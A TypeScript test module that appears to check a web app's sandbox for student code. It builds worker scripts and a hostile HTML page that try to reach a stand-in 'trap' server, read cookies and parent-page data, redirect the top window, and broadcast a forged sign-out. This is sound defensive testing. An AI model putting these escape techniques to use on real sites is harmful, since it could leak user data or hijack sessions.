/**
 * Attempts to break out of the sandbox, as somebody would make them who has got past the language runtimes and runs plain
 * JavaScript. Both functions are sent to the browser as text: they use nothing from here.
 */

/** What became of each attempt; "refused" is what we hope for. */
export type Attempts = Record<string, string>;

/** Inside the worker. `trap` is a foreign server, `home` our own. */
export async function fromWorker(trap: string, home: string): Promise<Attempts> {
  const outcomes: Attempts = {};
  const attempt = async (name: string, go: () => unknown) => {
    const tooLong = new Promise((resolve) => setTimeout(() => resolve("no answer"), 3_000));
    try {
      outcomes[name] = String(await Promise.race([go(), tooLong]));
    } catch {
      outcomes[name] = "refused";
    }
  };
  const opens = (socket: EventTarget) =>
    new Promise((resolve, reject) => {
      socket.addEventListener("open", () => resolve("open"));
      socket.addEventListener("error", () => reject(new Error("refused")));
    });
  await attempt("fetch elsewhere", () => fetch(`${trap}/fetch`).then(() => "answered"));
  await attempt("fetch elsewhere unseen", () => fetch(`${trap}/no-cors`, { mode: "no-cors" }).then(() => "answered"));
  await attempt("fetch at home", () => fetch(`${home}/api/health`).then(() => "answered"));
  await attempt("XMLHttpRequest", () => {
    const request = new XMLHttpRequest();
    request.open("GET", `${trap}/xhr`, false);
    request.send();
    return "answered";
  });
  await attempt("WebSocket", () => opens(new WebSocket(`${trap.replace("http", "ws")}/socket`)));
  await attempt("EventSource", () => opens(new EventSource(`${trap}/events`)));
  await attempt("importScripts", () => {
    (globalThis as unknown as { importScripts(url: string): void }).importScripts(`${trap}/import-scripts`);
    return "loaded";
  });
  await attempt("import()", () => import(`${trap}/import`).then(() => "loaded"));
  await attempt("a worker from elsewhere", () => {
    const worker = new Worker(`${trap}/worker`);
    return new Promise((_, reject) => (worker.onerror = reject));
  });
  await attempt("a worker of a worker", async () => {
    const code = `fetch("${trap}/inner-worker").then(() => postMessage("answered"), () => postMessage("refused"))`;
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    return new Promise((resolve, reject) => {
      worker.onmessage = ({ data }) => resolve(data);
      worker.onerror = reject;
    });
  });
  await attempt("indexedDB", () => {
    const request = indexedDB.open("kept");
    return new Promise((resolve, reject) => {
      request.onsuccess = () => resolve("kept");
      request.onerror = reject;
    });
  });
  await attempt("caches", () => caches.open("kept").then(() => "kept"));
  await attempt("storage folder", () => navigator.storage.getDirectory().then(() => "kept"));
  await attempt("BroadcastChannel", () => {
    new BroadcastChannel("chalkroom-auth").postMessage("signed-out");
    return "refused"; // the page's own ears decide
  });
  await attempt("the frame's own storage", () => String((globalThis as { localStorage?: unknown }).localStorage ?? "refused"));
  await attempt("the page", () => String((globalThis as { parent?: unknown }).parent ?? "refused"));
  return outcomes;
}

/** A page of a student's, shown in the frame. Its scripts run in a window. */
export function hostilePage(trap: string, home: string): string {
  return `<!doctype html>
<meta http-equiv="refresh" content="2;url=${trap}/refresh">
<link rel="stylesheet" href="${trap}/style">
<link rel="prefetch" href="${trap}/prefetch">
<link rel="preload" as="script" href="${trap}/preload">
<img src="${trap}/image">
<iframe src="${trap}/frame"></iframe>
<object data="${trap}/object"></object>
<video src="${trap}/video"></video>
<style>body { background: url(${trap}/background) } @font-face { font-family: f; src: url(${trap}/font) } b { font-family: f }</style>
<b>text</b>
<form id="form" action="${trap}/form"><input name="a"></form>
<script src="${trap}/script"></script>
<script>
  const outcomes = {};
  const attempt = async (name, go) => {
    try {
      outcomes[name] = String(await go());
    } catch {
      outcomes[name] = "refused";
    }
  };
  (async () => {
    await attempt("fetch", () => fetch("${trap}/fetch", { mode: "no-cors" }).then(() => "answered"));
    await attempt("beacon", () => (navigator.sendBeacon("${trap}/beacon", "x"), "refused"));
    await attempt("cookies", () => document.cookie || "none");
    await attempt("localStorage", () => localStorage.length);
    await attempt("the page's document", () => parent.document.title);
    await attempt("the page's address", () => parent.location.href);
    await attempt("the page's memory", () => top.document.cookie);
    await attempt("leading the page away", () => { top.location = "${trap}/top"; return "tried"; });
    await attempt("a window", () => (open("${trap}/window") ? "open" : "refused"));
    await attempt("a window of home", () => (open("${home}/") ? "open" : "refused"));
    await attempt("a form", () => (document.getElementById("form").submit(), "refused"));
    await attempt("a dialog", () => (confirm("Stay?"), "refused"));
    await attempt("a link", () => {
      const link = Object.assign(document.createElement("a"), { href: "${trap}/link", target: "_top" });
      document.body.append(link);
      link.click();
      return "refused";
    });
    await attempt("a worker", () => new Promise((resolve, reject) => {
      const worker = new Worker(URL.createObjectURL(new Blob(['fetch("${trap}/page-worker").then(() => postMessage("answered"), () => postMessage("refused"))'])));
      worker.onmessage = ({ data }) => resolve(data);
      worker.onerror = reject;
    }));
    new BroadcastChannel("chalkroom-auth").postMessage("signed-out");
    parent.postMessage({ type: "outcomes", outcomes }, "*");
    await attempt("leading itself away", () => { location = "${trap}/self"; });
  })();
</script>`;
}
